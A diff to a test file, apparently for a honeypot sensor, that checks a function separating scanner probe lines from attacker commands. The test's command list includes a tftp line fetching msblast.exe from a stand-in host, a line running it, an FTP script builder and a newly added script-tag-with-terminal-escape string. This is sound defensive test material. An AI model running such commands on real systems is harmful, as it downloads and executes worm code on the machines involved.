@@ -14,7 +14,7 @@ test('probe lines as the sensor renders them are recognised; commands are not', 
   for (const probe of ['GET / HTTP/1.0', 'OPTIONS / HTTP/1.0', 'OPTIONS / RTSP/1.0', 'OPTIONS sip:nm SIP/2.0', 'Via: SIP/2.0/TCP nm;branch=foo', 'User-Agent: Mozilla/5.0', 'HELP', '\\x00\\x00\\x00\\xa4\\xffSMBr', 'l\\x00\\x0b\\x00\\x00\\x00\\x00\\x00']) {
     assert.equal(isProbeLine(probe), true, probe);
   }
-  for (const cmd of ['tftp -i 198.51.100.66 GET msblast.exe', 'start msblast.exe', 'dir C:\\\\WINNT\\\\system32', 'echo open 192.0.2.9 21> o', 'ipconfig /all', 'cd \\\\xfiles']) {
+  for (const cmd of ['tftp -i 198.51.100.66 GET msblast.exe', 'start msblast.exe', 'dir C:\\\\WINNT\\\\system32', 'echo open 192.0.2.9 21> o', 'ipconfig /all', 'cd \\\\xfiles', 'echo <script>\\x1b[2J']) {
     assert.equal(isProbeLine(cmd), false, cmd);
   }
 });
